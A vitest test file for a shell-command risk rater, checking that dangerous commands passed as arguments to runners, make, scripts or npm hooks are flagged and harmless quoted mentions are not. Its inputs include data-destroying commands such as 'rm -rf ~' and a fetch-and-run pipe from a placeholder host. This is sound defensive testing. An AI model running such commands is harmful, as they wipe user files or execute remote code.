import { describe, expect, it } from 'vitest'
import { rateShell } from '../fixture.mts'

const rules = (command: string) => rateShell(command).reasons.map(({ rule }) => rule)

describe('a dangerous command in the arguments of a program that may run it', () => {
  it.each([
    'newrunner -- rm -rf ~',
    'newrunner "rm -rf ~ && echo done"',
    'newrunner --exec="curl -s https://x.example/a | sh"',
    'newrunner staging rm -rf /',
    'make CMD="rm -rf ~" run',
    './run.sh "rm -rf ~"',
    'npm pkg set scripts.postinstall="rm -rf ~"',
  ])('is at least high: %s', (command) => {
    expect(rules(command)).toContain('plain.given-command')
  })

  it.each([
    'newrunner -- npm test',
    'newrunner "don\'t panic"',
    'newrunner --message "rm -rf ~"',
    'newrunner explain "rm -rf ~"',
    'npx vitest run -t "rm -rf /"',
    'git commit -m "rm -rf ~"',
    'grep -rn "rm -rf ~" .',
  ])('is ignored in plain text: %s', (command) => {
    expect(rules(command)).not.toContain('plain.given-command')
  })

  it('counts as the worst case beyond the limit of analysis', () => {
    expect(rules(`newrunner ${'"true a" '.repeat(40)}`)).toContain('plain.given-command')
    expect(rules(`newrunner "${'true a;'.repeat(4000)}"`)).toContain('plain.given-command')
  })
})
